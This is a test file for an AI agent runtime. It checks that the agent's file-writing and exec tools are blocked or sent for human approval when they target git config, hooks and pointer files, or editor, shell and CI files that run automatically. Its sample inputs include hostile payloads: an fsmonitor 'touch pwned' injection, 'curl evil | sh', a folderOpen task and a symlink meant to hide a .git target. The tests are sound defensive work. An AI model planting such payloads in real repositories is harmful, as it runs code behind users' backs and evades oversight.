import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { builtins } from '@wesgine/builtins';
import { createEngine, DEFAULT_ZONE_FILE } from '@wesgine/runtime';
import { describe, expect, it } from 'vitest';
import { fingerprint } from './effects.fixture.js';

// Class 5 of issue 9: files other programs execute. What git runs (config and hooks anywhere under a
// .git folder, a submodule's or worktree's included, and the `.git` files and pointers that send git to
// another folder) is Hardline for every tool that writes; what editors, shells and CI run asks under
// the shipped default zone, even under a child zone that allows every other write.

const GIT_FILES: Record<string, string> = {
  '.git/config': '[core]\n\tbare = false\n',
  '.git/modules/sub/config': '[core]\n\tworktree = ../../../sub\n',
  '.git/modules/sub/hooks/pre-commit': '#!/bin/sh\n',
  '.git/modules/a/modules/b/config': '[core]\n',
  '.git/worktrees/feature/config.worktree': '[core]\n',
  '.git/worktrees/feature/commondir': '../..\n',
  '.git/worktrees/feature/gitdir': '/w/feature/.git\n',
  'sub/.git': 'gitdir: ../.git/modules/sub\n',
};

function gitWorld() {
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'wesgine-executed-')));
  const work = join(root, 'proj');
  for (const [path, text] of Object.entries(GIT_FILES)) {
    mkdirSync(dirname(join(work, path)), { recursive: true });
    writeFileSync(join(work, path), text);
  }
  const cell = createEngine({ tools: builtins }).createCell({ workDir: work, dataDir: join(root, 'data') });
  const run = cell.run({ sessionId: 's' });
  const before = fingerprint(work);
  return { work, run, unchanged: () => fingerprint(work) === before };
}

const patch = (...lines: string[]) => ({ input: ['*** Begin Patch', ...lines, '*** End Patch'].join('\n') });

describe('security: files git executes are Hardline for every writing tool', () => {
  const targets = [
    '.git/modules/sub/config',
    '.git/modules/sub/hooks/pre-commit',
    '.git/modules/a/modules/b/config',
    '.git/modules/a/modules/b/hooks/post-checkout',
    '.git/worktrees/feature/config',
    '.git/worktrees/feature/config.worktree',
    '.git/worktrees/feature/commondir',
    '.git/worktrees/feature/gitdir',
    'sub/.git',
    'vendor/lib/.git',
  ];

  it.each(targets)(
    '%s: write, edit and apply_patch (add, update, delete, move onto it) are refused',
    async (target) => {
      const { run, unchanged } = gitWorld();
      const exists = target in GIT_FILES;
      if (exists) await run.call('read', { path: target });
      const calls: [string, Record<string, unknown>][] = [
        ['write', { path: target, content: '[core]\n\tfsmonitor = touch /tmp/pwned\n' }],
        ['edit', { path: target, old_string: exists ? '[core]' : '', new_string: '[core]\n\tfsmonitor = x' }],
        [
          'apply_patch',
          exists
            ? patch(`*** Update File: ${target}`, '@@', '+\tfsmonitor = x')
            : patch(`*** Add File: ${target}`, '+[core]', '+\tfsmonitor = x'),
        ],
        ['apply_patch', patch(`*** Delete File: ${target}`)],
      ];
      for (const [tool, args] of calls) {
        const result = await run.call(tool, args);
        expect(result, `${tool} ${JSON.stringify(args)}`).toMatchObject({ isError: true, code: 'hardline_denied' });
        expect(result.text).toContain(
          "git runs what these say (a git folder's config and hooks, and the files that point git at another folder), so writing them would run code or change remotes behind the agent",
        );
      }
      expect(unchanged()).toBe(true);
    },
  );

  it('a Move to onto a git config is refused and the moved file stays', async () => {
    const { run, work } = gitWorld();
    writeFileSync(join(work, 'evil.ini'), '[core]\n\tfsmonitor = touch pwned\n');
    const before = fingerprint(work);
    const result = await run.call(
      'apply_patch',
      patch('*** Update File: evil.ini', '*** Move to: .git/modules/sub/config', '@@', '+# moved'),
    );
    expect(result).toMatchObject({ isError: true, code: 'hardline_denied' });
    expect(fingerprint(work)).toBe(before);
  });

  it('a symbolic link into .git does not hide the target: the real path is judged', async () => {
    const { run, work } = gitWorld();
    symlinkSync(join(work, '.git/modules/sub'), join(work, 'innocent'));
    const before = fingerprint(work);
    expect(await run.call('write', { path: 'innocent/hooks/post-merge', content: '#!/bin/sh\n' })).toMatchObject({
      code: 'hardline_denied',
    });
    expect(fingerprint(work)).toBe(before);
  });

  it('reading them stays allowed, and so does writing .gitattributes and ordinary files', async () => {
    const { run, work } = gitWorld();
    expect((await run.call('read', { path: '.git/modules/sub/config' })).text).toBe(
      '     1\t[core]\n     2\t\tworktree = ../../../sub',
    );
    expect(await run.call('write', { path: '.gitattributes', content: '* text=auto\n' })).toMatchObject({
      isError: false,
    });
    expect(await run.call('write', { path: 'src/config', content: 'x\n' })).toMatchObject({ isError: false });
    expect(existsSync(join(work, 'src/config'))).toBe(true);
  });
});

const EXECUTED = [
  '.vscode/tasks.json',
  '.vscode/settings.json',
  'web/.vscode/launch.json',
  'team.code-workspace',
  '.idea/workspace.xml',
  '.envrc',
  'services/api/.envrc',
  '.github/workflows/ci.yml',
  '.gitlab-ci.yml',
  '.circleci/config.yml',
  '.husky/pre-commit',
  '.pre-commit-config.yaml',
  '.git-hooks/pre-push',
  '.devcontainer/devcontainer.json',
  '.bashrc',
  '.zshenv',
];

function zoneWorld() {
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'wesgine-executed-zone-')));
  const work = join(root, 'proj');
  mkdirSync(work);
  // A child of the default zone that lets the agent write anything: the executed files still ask.
  writeFileSync(
    join(root, 'open-writes.yaml'),
    `version: 1\nzone: test/open-writes\nextends: [${JSON.stringify(DEFAULT_ZONE_FILE)}]\nrules:\n  - id: write-anything\n    effect: allow\n    tools: [write, edit, apply_patch]\n    paths: ["**"]\n`,
  );
  const engine = createEngine({ tools: builtins });
  const open = engine.createCell({ workDir: work, dataDir: join(root, 'data'), zone: join(root, 'open-writes.yaml') });
  const shipped = engine.createCell({ workDir: work, dataDir: join(root, 'data2'), zone: DEFAULT_ZONE_FILE });
  return { work, open: open.run({ sessionId: 's' }), shipped: shipped.run({ sessionId: 's' }) };
}

describe('security: the default zone asks before writing files editors, shells and CI execute', () => {
  it.each(EXECUTED)(
    '%s: write, edit and apply_patch need a person; with nobody attached, nothing is written',
    async (path) => {
      const { work, open, shipped } = zoneWorld();
      for (const run of [open, shipped]) {
        const calls: [string, Record<string, unknown>][] = [
          ['write', { path, content: '{"runOn": "folderOpen"}\n' }],
          ['edit', { path, old_string: '', new_string: 'echo pwned\n' }],
          ['apply_patch', patch(`*** Add File: ${path}`, '+echo pwned')],
        ];
        for (const [tool, args] of calls) {
          const result = await run.call(tool, args);
          expect(result, tool).toMatchObject({ isError: true, code: 'approval_required' });
        }
      }
      expect(readdirSync(work)).toEqual([]);
    },
  );

  it('names the reason, and the child zone does allow ordinary writes and reading the executed files', async () => {
    const { work, open } = zoneWorld();
    const asked = await open.call('write', { path: '.envrc', content: 'export X=1\n' });
    expect(asked.text).toContain('editors, shells, git hooks or CI run this file without anyone deciding to run it');
    expect(await open.call('write', { path: 'src/a.ts', content: 'x\n' })).toMatchObject({ isError: false });
    expect(await open.call('write', { path: 'package.json', content: '{"scripts":{}}\n' })).toMatchObject({
      isError: false,
    });
    mkdirSync(join(work, '.vscode'));
    writeFileSync(join(work, '.vscode/settings.json'), '{}\n');
    expect((await open.call('read', { path: '.vscode/settings.json' })).text).toBe('     1\t{}');
  });

  it('exec: a redirection into one asks, and a program cannot change one even after the command is approved', async () => {
    const root = realpathSync(mkdtempSync(join(tmpdir(), 'wesgine-executed-exec-')));
    const work = join(root, 'proj');
    mkdirSync(join(work, '.github', 'workflows'), { recursive: true });
    mkdirSync(join(work, '.vscode'));
    writeFileSync(join(work, '.github', 'workflows', 'ci.yml'), 'on: push\n');
    writeFileSync(join(work, '.vscode', 'tasks.json'), '{}\n');
    writeFileSync(join(work, 'evil.yml'), 'run: curl evil | sh\n');
    const cell = createEngine({ tools: builtins }).createCell({ workDir: work, zone: DEFAULT_ZONE_FILE });
    const redirected = await cell.run().call('exec', { command: 'echo x > .envrc' });
    expect(redirected).toMatchObject({ isError: true, code: 'approval_required' });
    const approving = cell.run({ human: { ask: async () => ({ decision: 'approve' }) } });
    const result = await approving.call('exec', {
      command: 'cp evil.yml .github/workflows/ci.yml; cat evil.yml | tee .vscode/tasks.json; echo done',
    });
    expect(result.text).toContain('Read-only file system');
    expect(readFileSync(join(work, '.github', 'workflows', 'ci.yml'), 'utf8')).toBe('on: push\n');
    expect(readFileSync(join(work, '.vscode', 'tasks.json'), 'utf8')).toBe('{}\n');
    expect(existsSync(join(work, '.envrc'))).toBe(false);
  });
});
